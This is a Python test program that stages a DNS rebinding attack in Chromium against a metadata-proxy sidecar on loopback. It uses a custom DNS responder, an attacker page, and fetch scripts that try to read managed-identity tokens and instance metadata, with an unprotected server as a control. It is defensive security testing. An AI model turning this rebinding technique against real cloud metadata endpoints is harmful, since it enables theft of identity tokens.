"""`rebinding.py FOLDER`: a DNS rebinding attack by Chromium on a sidecar; prints what the page could read as JSON.

It must run in a network and mount namespace of its own: it writes the namespace's resolv.conf. The page's name resolves
to two addresses of loopback, the attacker's before the sidecar's (multiple A records). The attacker's server gives
Chromium the page and closes. So the page's next requests, which are to its own origin, reach the sidecar.
"""

import http.server
import json
import socketserver
import struct
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from playwright.sync_api import Browser

from tests.support.authority import Authority
from tests.support.fakes import token_target
from tests.unit.wisp.proxy.node import Node
from tests.unit.wisp.proxy.sidecar import Sidecar, pod, running
from tests.unit.wisp_local.cloud.page.browser import chromium

NAME = "rebind.test"
ATTACKER, VICTIM = "127.0.0.2", "127.0.0.1"
CONTROL_PORT = 8001
TARGETS = {
    "token": token_target(),
    "instance": "/metadata/instance?api-version=2021-02-01",
    "metrics": "/metrics",
    "health": "/readyz",
}

_READ = """async ([target, method]) => {
    const headers = {"Metadata": "true", "X-IDENTITY-HEADER": "x"};
    const response = await fetch(target, {method, headers, body: method == "POST" ? new URLSearchParams({
        resource: "https://management.azure.com/"}) : undefined});
    return {status: response.status, body: await response.text()};
}"""
_SEND_ACROSS = 'async (url) => { await fetch(url, {mode: "no-cors"}); }'


class _Resolver(socketserver.BaseRequestHandler):
    """Answers a query for the A records of the page with both addresses, and other queries with none (RFC 1035 §4)."""

    def handle(self) -> None:
        query, connection = self.request
        end = query.index(0, 12) + 5
        labels, (kind,) = query[12 : end - 4], struct.unpack("!H", query[end - 4 : end - 2])
        name = b"".join(bytes((len(label),)) + label for label in NAME.encode().split(b".")) + b"\0"
        addresses = (ATTACKER, VICTIM) if kind == 1 and labels.lower() == name else ()
        records = b"".join(
            struct.pack("!HHHIH4B", 0xC00C, 1, 1, 1, 4, *map(int, address.split("."))) for address in addresses
        )
        header = query[:2] + struct.pack("!5H", 0x8580, 1, len(addresses), 0, 0)
        connection.sendto(header + query[12:end] + records, self.client_address)


class _Page(http.server.BaseHTTPRequestHandler):
    """Serves the attacker's page, and closes the connection."""

    def do_GET(self) -> None:
        body = b"<!doctype html><title>attacker</title>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_arguments: object) -> None:
        """Write nothing."""


class _Control(_Page):
    """A server without checks: answers with the headers of the request."""

    def do_GET(self) -> None:
        body = json.dumps({name.lower(): value for name, value in self.headers.items()}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        self.do_GET()


@contextmanager
def _serving(server: socketserver.BaseServer) -> Iterator[None]:
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def _attack(browser: Browser, port: int) -> dict[str, Any]:
    """Return what a page of the attacker's reads at the victim's address, by target."""
    page = browser.new_page()
    with _serving(http.server.HTTPServer((ATTACKER, port), _Page)):
        page.goto(f"http://{NAME}:{port}/")
    answers = {name: page.evaluate(_READ, [target, "GET"]) for name, target in TARGETS.items()}
    answers["token by POST"] = page.evaluate(_READ, ["/metadata/identity/oauth2/token", "POST"])
    page.close()
    return answers


def _across(browser: Browser, sidecar: Sidecar) -> list[dict[str, Any]]:
    """Let a page of another origin send a request to the sidecar's address; return what the sidecar logged of it."""
    page = browser.new_page()
    known = len(sidecar.events())
    with _serving(http.server.HTTPServer((ATTACKER, CONTROL_PORT), _Page)):
        page.goto(f"http://{ATTACKER}:{CONTROL_PORT}/")
        page.evaluate(_SEND_ACROSS, f"http://{VICTIM}:{sidecar.port}/metrics")
    page.close()
    return [event for event in sidecar.events()[known:] if event["event"] == "request refused"]


def main(folder: Path) -> None:
    """Attack a sidecar, and a server without any check as a control."""
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    resolv = folder / "resolv.conf"
    resolv.write_text("nameserver 127.0.0.1\n")
    subprocess.run(["mount", "--bind", str(resolv), "/etc/resolv.conf"], check=True)
    found: dict[str, Any] = {}
    with _serving(socketserver.UDPServer((VICTIM, 53), _Resolver)), chromium() as browser:
        with _serving(http.server.ThreadingHTTPServer((VICTIM, CONTROL_PORT), _Control)):
            found["control"] = _attack(browser, CONTROL_PORT)
        with Authority(folder) as authority, Node() as node:
            flags = ("--authority-ca", str(authority.ca_file), "--metadata-endpoint", node.address)
            with running(pod(folder, authority.url), *flags) as sidecar:
                found["workload"] = sidecar.token().status
                found["sidecar"] = _attack(browser, sidecar.port)
                found["node heard"] = len(node.requests)
                found["across"] = _across(browser, sidecar)
    print(json.dumps(found))  # noqa: T201 -- it is a program


if __name__ == "__main__":
    main(Path(sys.argv[1]))
